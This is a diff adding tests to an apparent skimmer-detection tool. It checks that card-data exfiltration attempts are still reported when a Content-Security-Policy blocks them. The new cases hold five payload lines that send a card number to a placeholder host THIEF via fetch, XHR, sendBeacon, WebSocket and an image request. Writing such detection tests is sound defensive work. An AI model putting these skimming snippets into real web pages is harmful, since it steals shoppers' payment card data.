@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { launchBrowser, type RunningBrowser } from '#session/index.ts'
-import { type Watched, watchPage } from './watch-page.ts'
+import { cardForm, type Watched, watchPage } from './watch-page.ts'
 
 let browser: RunningBrowser
 beforeAll(async () => {
@@ -72,6 +72,20 @@ describe('a way out is found with its script: ', () => {
     if (/navigates|form/.test(kind) && kind !== 'reads-form')
       expect(watched.atThief.filter((line) => !line.startsWith('GET /t.js'))).toEqual([])
   })
+})
+
+it.each([
+  ['sends-fetch', `fetch('http://THIEF/a?' + pan, { mode: 'no-cors' }).catch(() => 0)`],
+  ['sends-xhr', `const x = new XMLHttpRequest(); x.open('POST', 'http://THIEF/x'); x.send(pan)`],
+  ['sends-beacon', `navigator.sendBeacon('http://THIEF/b', pan)`],
+  ['sends-websocket', `try { new WebSocket('ws://THIEF/w?' + pan) } catch {}`],
+  ['sends-image', `new Image().src = 'http://THIEF/i?' + pan`],
+])('%s is told of though a policy stops it', async (kind, work) => {
+  const watched = await watchPage(browser, {
+    skimmer: onChange(work),
+    body: `<meta http-equiv="Content-Security-Policy" content="connect-src 'none'; img-src 'none'">${cardForm}`,
+  })
+  expect(kindsOf(watched)).toContain(kind)
 })
 
 it('what a script keeps, tells and opens is found with it', async () => {
